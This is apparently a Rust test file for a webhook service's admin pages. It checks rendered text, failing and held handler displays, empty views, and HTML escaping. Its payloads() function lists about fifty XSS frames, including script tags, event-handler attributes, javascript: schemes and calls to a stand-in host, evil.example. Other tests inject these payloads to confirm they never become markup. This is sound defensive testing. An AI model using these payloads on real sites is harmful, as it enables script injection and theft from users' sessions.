//! The page: its words, and that nothing from elsewhere ever becomes markup.

use super::*;

/// The text of a page as people read it: without tags, with blanks in one.
pub(super) fn words(html: &str) -> String {
    let body = html.split_once("<main").unwrap().1;
    let mut text = String::new();
    let mut in_tag = true;
    for letter in body.chars() {
        match letter {
            '<' => {
                in_tag = true;
                text.push(' ');
            }
            '>' => in_tag = false,
            letter if !in_tag => text.push(letter),
            _ => {}
        }
    }
    let lines = text.lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "));
    lines.filter(|line| !line.is_empty()).collect::<Vec<_>>().join("\n")
}

#[tokio::test]
async fn what_each_view_says() {
    let bench = Bench::asking(CONFIG, Told::with("told"));
    bench.keep(&version("a").previous_state("IN_REVIEW").subject_id("6444444444"), &["ci", "chat"]).await;
    bench.clock.advance(Duration::from_mins(90));
    bench
        .keep(&sample::of(&EventKind::BuildUploadStateUpdated).id("b").state("COMPLETE").time(NOW.parse().unwrap()), &["ci"])
        .await;
    bench.keep_bytes(Bytes::from_static(b"no event"), &[]).await;
    let details = r#"{"app":{"id":"1001","name":"Harbor"}}"#;
    assert!(bench.store.keep_details(ReceiptId(2), details.into(), Vec::new()).await.unwrap());
    bench.finish("ci", dead("the build is gone")).await;
    bench.clock.advance(Duration::from_mins(5));
    bench.store.pause("chat", "the channel is being moved", bench.clock.now()).await.unwrap();
    bench.refuse_some();
    bench.clock.advance(Duration::from_mins(2));
    for (name, path) in [
        ("overview", "/"),
        ("events", "/events"),
        ("event", "/events/1"),
        ("unparsed", "/events/3"),
        ("handlers", "/handlers"),
        ("apple", "/apple"),
        ("refused", "/refused"),
    ] {
        let answer = bench.get(path).await;
        assert_eq!((answer.status, answer.header("content-type")), (200, "text/html; charset=utf-8"), "{}", answer.text);
        insta::assert_snapshot!(name, words(&answer.text));
    }
}

#[tokio::test]
async fn one_is_spoken_of_as_one() {
    let bench = Bench::new();
    for (id, button) in [("a", "Replay the dead one"), ("b", "Replay all 2 dead")] {
        bench.keep(&version(id), &["ci"]).await;
        bench.finish("ci", dead("the build is gone")).await;
        assert!(bench.get("/handlers").await.text.contains(button), "{button}");
    }
}

#[tokio::test]
async fn what_is_owed_to_a_handler_that_is_gone_is_shown_and_not_replayed() {
    let bench = Bench::new();
    bench.keep(&version("a"), &["boom"]).await;
    bench.finish("boom", dead("the build is gone")).await;
    let overview = words(&bench.get("/").await.text);
    assert!(overview.contains("1 dispatch is owed to boom, which is not configured"), "{overview}");
    for (path, told) in [("/", "boom no longer configured"), ("/handlers", "Nobody handles"), ("/events/1", "no longer configured")]
    {
        let html = bench.get(path).await.text;
        assert!(words(&html).contains(told) && !html.contains("<button>Replay"), "{path}: {}", words(&html));
    }
    let form = [BEARER, OWN, ("content-type", "application/x-www-form-urlencoded")];
    let post = async |path: &str| bench.send(request(&Method::POST, path, &form).body(Body::empty()).unwrap()).await;
    for path in ["/handlers/boom/replay-dead", "/events/1/replay"] {
        let answer = post(path).await;
        let refused = answer.text.contains("`boom` is not in the configuration, so nothing would try it again");
        assert_eq!((answer.status, refused), (409, true), "{path}: {}", answer.text);
    }
    bench.store.pause("boom", "enough", bench.clock.now()).await.unwrap();
    let resumed = post("/handlers/boom/resume").await;
    let notice = words(&bench.get(resumed.header("location")).await.text);
    assert!(notice.contains("it is not in the configuration: what is owed to it waits until it is"), "{notice}");
}

#[tokio::test]
async fn a_handler_that_only_fails_is_shown_wherever_handlers_are() {
    let bench = Bench::new();
    bench.keep(&version("a"), &["chat"]).await;
    let fail = async || {
        let (due_at, error) = (bench.clock.now(), "answered 500 Internal Server Error".to_owned());
        bench.finish("chat", Verdict::Retry { due_at, result: AttemptResult::Failed, error }).await;
        bench.clock.advance(Duration::from_mins(1));
    };
    let shown = async || [bench.get("/").await, bench.get("/handlers").await, bench.get("/api/v1/handlers").await];
    for _ in 0..2 {
        fail().await;
    }
    let [overview, handlers, api] = shown().await;
    assert!(overview.text.contains("All is well") && !handlers.text.contains("Failing"), "{}", overview.text);
    assert_eq!(api.json()["items"][0]["streak"], serde_json::Value::Null);

    fail().await;
    let [overview, handlers, api] = shown().await;
    let told = words(&overview.text);
    assert!(told.contains("1 thing needs a look\nchat has failed all of its last 3 attempts: answered 500"), "{told}");
    assert!(told.contains("chat failing 0 1 0") && overview.text.contains("href=\"/handlers#chat\""), "{told}");
    let told = words(&handlers.text);
    assert!(told.contains("Failing all of its last 3 attempts, the first 3 min ago :\nanswered 500"), "{told}");
    let streak = &api.json()["items"][0]["streak"];
    assert_eq!((&streak["failures"], &streak["error"]), (&3.into(), &"answered 500 Internal Server Error".into()));

    bench.finish("chat", Verdict::Done).await;
    assert!(bench.get("/").await.text.contains("All is well"));
}

#[tokio::test]
async fn a_handler_whose_other_side_asked_to_wait_is_shown_as_held() {
    let bench = Bench::new();
    bench.keep(&version("a"), &["asked"]).await;
    bench.keep(&version("b"), &["chat"]).await;
    let api = bench.get("/api/v1/handlers").await.json();
    let held: Vec<_> = api["items"].as_array().unwrap().iter().map(|one| (one["handler"].as_str(), &one["held_until"])).collect();
    let until = serde_json::to_value(bench.clock.now() + SignedDuration::from_secs(30)).unwrap();
    assert!(held.contains(&(Some("asked"), &until)) && held.contains(&(Some("chat"), &serde_json::Value::Null)), "{held:?}");
    let told = words(&bench.get("/handlers").await.text);
    assert_eq!(
        told.matches("Held , because its other side asked to wait: it is given the next event in 30 s").count(),
        1,
        "{told}"
    );
    let told = words(&bench.get("/").await.text);
    assert_eq!(told.matches("asked no longer configured held").count(), 1, "{told}");
}

#[tokio::test]
async fn an_empty_view_says_what_to_do_next() {
    let bench = Bench::with(
        "[[endpoint]]\nname = 'my-app'\npath = '/my-app'\nsecrets = ['a secret for the tests of the page']\n[admin]\ntoken = 'the token of an operator'\n",
    );
    for (name, path) in [
        ("empty_overview", "/"),
        ("empty_events", "/events"),
        ("empty_versions", "/versions"),
        ("empty_search", "/events?handler=ci"),
        ("empty_handlers", "/handlers"),
        ("empty_apple", "/apple"),
        ("empty_refused", "/refused"),
    ] {
        insta::assert_snapshot!(name, words(&bench.get(path).await.text));
    }
    let gone = bench.get("/events/9").await;
    assert_eq!((gone.status, gone.header("content-type")), (404, "text/html; charset=utf-8"));
    assert!(words(&gone.text).contains("there is no receipt 9"), "{}", gone.text);
}

/// Payloads that run a script where they are not escaped: tags, attributes, entities, comments, templates, schemes.
fn payloads() -> Vec<String> {
    let scripts = ["alert(1)", "alert`1`", "import('//evil.example')", "self['al'+'ert'](1)"];
    let frames = [
        "<script>@</script>",
        "<ScRiPt>@</sCrIpT>",
        "<script/x>@</script>",
        "</script><script>@</script>",
        "</title><script>@</script>",
        "</textarea><script>@</script>",
        "</pre><script>@</script>",
        "</svg><script>@</script>",
        "--><script>@</script><!--",
        "]]><script>@</script>",
        "\"><script>@</script>",
        "'><script>@</script>",
        "\"><img src=x onerror=@>",
        "'><img src=x onerror='@'>",
        "<img src=x onerror=\"@\">",
        "<IMG SRC=x ONERROR=@>",
        "<img/src/onerror=@>",
        "<svg onload=@>",
        "<svg><animate onbegin=@ attributeName=x>",
        "<svg><script>@</script></svg>",
        "<math><mtext><script>@</script></mtext></math>",
        "<body onload=@>",
        "<iframe srcdoc=\"<script>@</script>\">",
        "<iframe src=\"javascript:@\">",
        "<a href=\"javascript:@\">x</a>",
        "<form action=\"javascript:@\"><button>",
        "<input autofocus onfocus=@>",
        "<details open ontoggle=@>",
        "<video><source onerror=@>",
        "<object data=\"javascript:@\">",
        "<base href=\"javascript:@//\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
        "<link rel=stylesheet href=\"//evil.example/@\">",
        "<style>@import'//evil.example'</style>",
        "\" onmouseover=\"@",
        "' onmouseover='@",
        "\" autofocus onfocus=\"@\" x=\"",
        "` onmouseover=`@`",
        "\u{0}<script>@</script>",
        "<\u{0}script>@</script>",
        "<script\u{c}>@</script>",
        "<!--<img src=\"--><img src=x onerror=@//\">",
        "<template><script>@</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
        "{{ '<script>@</script>' | safe }}",
        "{% raw %}<script>@</script>{% endraw %}",
        "<x onclick=@ tabindex=0 autofocus onfocus=@>",
        "<marquee onstart=@>",
        "<isindex type=image src=1 onerror=@>",
        "<a href='data:text/html,<script>@</script>'>x</a>",
    ];
    frames.iter().flat_map(|frame| scripts.map(|script| frame.replace('@', script))).collect()
}

/// Whether a payload stands in a page as it is. One without a letter that has a meaning in HTML may.
fn stands_in(html: &str, payload: &str) -> bool {
    payload.contains(['<', '>', '"', '\'']) && html.contains(payload)
}

/// The tags and attributes of a page, which are all its markup.
fn markup(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let mut quote = None;
        let end = after.find(|letter: char| match (quote, letter) {
            (None, '"' | '\'') => {
                quote = Some(letter);
                false
            }
            (None, '>') => true,
            (Some(open), letter) if letter == open => {
                quote = None;
                false
            }
            _ => false,
        });
        let (tag, later) = after.split_at(end.unwrap_or(after.len()));
        // What stands in quotes is no markup.
        let bare: String = tag.split('"').step_by(2).collect::<Vec<_>>().join("\"\"");
        tags.push(bare.to_lowercase());
        rest = later;
    }
    tags
}

#[test]
fn the_check_finds_markup() {
    assert_eq!(markup("<p title=\"<b>\">a</p><IMG onerror=x>"), ["p title=\"\"", "/p", "img onerror=x"]);
}

#[tokio::test]
async fn nothing_from_elsewhere_becomes_markup() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    let plain = Bench::asking(CONFIG, Told::with("harmless"));
    fill(&plain, "harmless").await;
    let mut expected = Vec::new();
    for path in VIEWS {
        expected.push(markup(&plain.get(path).await.text));
    }
    for payload in &payloads {
        let bench = Bench::asking(CONFIG, Told::with(payload));
        fill(&bench, payload).await;
        for (path, expected) in VIEWS.iter().zip(&expected) {
            let html = bench.get(path).await.text;
            assert!(!stands_in(&html, payload), "{path} has {payload:?} as it came");
            assert_eq!(&markup(&html), expected, "{path} has other markup with {payload:?}");
        }
    }
}

const VIEWS: [&str; 10] =
    ["/", "/events", "/events/1", "/events/2", "/events/4", "/versions", "/versions?app=x", "/handlers", "/apple", "/refused"];

/// The same receipts, with a text in every place that somebody else can fill.
async fn fill(bench: &Bench, text: &str) {
    let json = |path: &str| (path.to_owned(), serde_json::Value::from(text));
    let paths = ["attributes.newValue", "attributes.oldValue", "relationships.instance.data.type"].map(json);
    let event = paths.into_iter().fold(version(text).subject_id(text), |event, (path, value)| event.set(path, value));
    bench.keep(&event, &["ci", "chat"]).await;
    bench.keep_bytes(format!("{{\"data\": {text}").into(), &[]).await;
    let strange = sample::of(&EventKind::from(text)).id("unknown kind");
    bench.keep(&strange, &["ci"]).await;
    bench.finish("ci", dead(text)).await;
    let crash = sample::of(&EventKind::BetaFeedbackCrashSubmissionCreated).id("crash").set("attributes.more", text.into());
    let crash = bench.keep(&crash, &[]).await;
    let build = sample::of(&EventKind::BuildUploadStateUpdated).id("build").subject_id(text).state(text);
    let build = bench.keep(&build, &[]).await;
    let details = serde_json::json!({
        "app": { "id": text, "name": text },
        "version": { "string": text, "platform": text },
        "build": { "number": text, "version": text, "platform": text, "errors": [{ "code": text, "description": text }] },
        "feedback": {
            "comment": text,
            "device_model": text,
            "screenshots": [{ "file": { "name": text, "media_type": text } }, { "file": { "name": text, "media_type": "image/heic" } }, {}],
            "crash_log": { "text": text, "is_cut": true },
        },
        "link": text,
    });
    for id in [ReceiptId(1), build, crash] {
        assert!(bench.store.keep_details(id, details.to_string().into(), Vec::new()).await.unwrap());
    }
    let retry = Verdict::Retry { due_at: bench.clock.now(), result: AttemptResult::Failed, error: text.to_owned() };
    bench.finish("chat", retry).await;
    let failed = crate::inbox::account::Pass::Failed { error: text.to_owned() };
    bench.store.end_pass("my-app", failed, bench.clock.now()).await.unwrap();
    bench.store.pause("chat", text, bench.clock.now()).await.unwrap();
    bench.refuse_some();
}

#[tokio::test]
async fn what_a_person_types_is_shown_as_typed() {
    let bench = Bench::new();
    for payload in payloads() {
        let typed: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        for path in [
            "/events?state=",
            "/events?subject=",
            "/events?unknown=",
            "/events?since=",
            "/handlers?did=",
            "/events/",
            "/versions?app=",
            "/versions?before=",
        ] {
            let html = bench.get(&format!("{path}{typed}")).await.text;
            assert!(!stands_in(&html, &payload), "{path}{typed}");
        }
    }
}

/// The one script there is: a file of our own, and nothing that stands in a page.
const OWN_SCRIPT: &str = r#"<script type="module" src="/live.js"></script>"#;

#[test]
fn no_template_marks_anything_as_safe() {
    for file in std::fs::read_dir("src/server/admin/page/templates").unwrap() {
        let file = file.unwrap().path();
        let text = std::fs::read_to_string(&file).unwrap().replace(OWN_SCRIPT, "");
        for mark in ["safe", "autoescape", "<script", "style=", "onclick", "javascript:"] {
            assert!(!text.contains(mark), "{} has `{mark}`", file.display());
        }
        assert!(file.extension().is_some_and(|end| end == "html"), "only names in .html are escaped by themselves");
    }
}
